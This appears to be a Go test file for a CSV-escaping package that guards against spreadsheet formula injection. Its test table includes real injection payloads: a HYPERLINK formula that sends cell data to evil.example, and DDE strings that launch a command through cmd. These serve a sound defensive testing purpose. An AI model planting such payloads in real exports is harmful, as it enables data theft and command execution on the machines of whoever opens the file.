package csvsafe_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/hocvu/hocvu/internal/csvsafe"
)

func TestCell(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		// The payloads of the adversarial run (issue 12, F5).
		{`=HYPERLINK("http://evil.example/?x="&A1,"bấm")`, `'=HYPERLINK("http://evil.example/?x="&A1,"bấm")`},
		{`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
		{`=1+1`, `'=1+1`},
		{`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
		{`@SUM(1,2)`, `'@SUM(1,2)`},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		// Plain values and numbers stay as they are.
		{"", ""},
		{"21121", "21121"},
		{"citizen", "citizen"},
		{"Xã Tịnh Khê", "Xã Tịnh Khê"},
		{"-12", "-12"},
		{"+3.5", "+3.5"},
		{"12.5", "12.5"},
		{"a=b", "a=b"},
		{" =1+1", " =1+1"}, // a leading space is text to every spreadsheet
		{"-", "'-"},
		{"'=1", "''=1"}, // a quote of its own survives the round trip
		{"'a", "'a"},
	} {
		if got := csvsafe.Cell(c.in); got != c.want {
			t.Errorf("Cell(%q) = %q, want %q", c.in, got, c.want)
		}
		if got := csvsafe.Unescape(csvsafe.Cell(c.in)); got != c.in {
			t.Errorf("Unescape(Cell(%q)) = %q", c.in, got)
		}
	}
}

// TestWriter: every cell of every record is neutralised, and the file is
// still valid CSV that reads back to the escaped values.
func TestWriter(t *testing.T) {
	var buf bytes.Buffer
	w := csvsafe.NewWriter(&buf)
	rows := [][]string{{"commune", "learners"}, {"=1+1", "3"}, {`+cmd|"x"`, "-1"}, {"21121,x", "@a"}}
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"commune", "learners"}, {"'=1+1", "3"}, {`'+cmd|"x"`, "-1"}, {"21121,x", "'@a"}}
	if len(got) != len(want) {
		t.Fatalf("read %v", got)
	}
	for i := range want {
		for j := range want[i] {
			if got[i][j] != want[i][j] {
				t.Errorf("row %d cell %d = %q, want %q", i, j, got[i][j], want[i][j])
			}
		}
	}
}
